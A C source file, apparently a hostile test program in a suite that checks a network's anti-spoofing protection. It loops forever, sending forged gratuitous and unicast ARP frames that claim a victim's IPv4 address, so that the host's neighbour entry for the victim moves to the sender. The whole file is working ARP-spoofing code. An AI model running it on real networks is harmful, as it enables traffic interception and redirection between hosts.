/* SPDX-License-Identifier: MIT */
/*
 * ARP spoofing from the attacker's own MAC: claims the victim's IPv4
 * address (victim_ip=) with a gratuitous ARP request, a gratuitous ARP
 * reply, a unicast reply to the host (host_mac=, host_ip=) and a request
 * for the host's address that names the victim's as its sender. Without
 * address ownership the host's neighbour entry for the victim moves to
 * the attacker. Also a 0.0.0.0 probe, which is allowed. Forever, paced.
 */
#include "hostile.h"

static uint8_t f[64];

static void arp(const uint8_t *dst, const uint8_t *mac, uint16_t op,
		uint32_t spa, const uint8_t *tha, uint32_t tpa)
{
	memset(f, 0, sizeof(f));
	hostile_arp(hostile_eth(f, dst, mac, ETH_P_ARP), op, mac, spa, tha,
		    tpa);
	hostile_send(f, 60);
}

int main(void)
{
	static const uint8_t zero[6];
	uint32_t vip = hostile_ip_arg("victim_ip", 0x0a000002);
	uint32_t hip = hostile_ip_arg("host_ip", 0x0a000001);
	uint32_t me = hostile_ip_arg("ip", 0);
	uint8_t mac[6], host[6];
	unsigned long round;

	hostile_own_mac(mac);
	hostile_mac_arg("host_mac", host);
	printf("arpspoof: claiming %u.%u.%u.%u\n", (unsigned int)(vip >> 24),
	       (unsigned int)(vip >> 16 & 255), (unsigned int)(vip >> 8 & 255),
	       (unsigned int)(vip & 255));
	for (round = 1;; round++) {
		arp(hostile_bcast, mac, 1, vip, zero, vip);
		arp(hostile_bcast, mac, 2, vip, hostile_bcast, vip);
		arp(host, mac, 2, vip, host, hip);
		arp(hostile_bcast, mac, 1, vip, zero, hip);
		/* The allowed probe, for the attacker's own address. */
		arp(hostile_bcast, mac, 1, 0, zero, me);
		hostile_pace("arpspoof", round, 10000);
	}
}
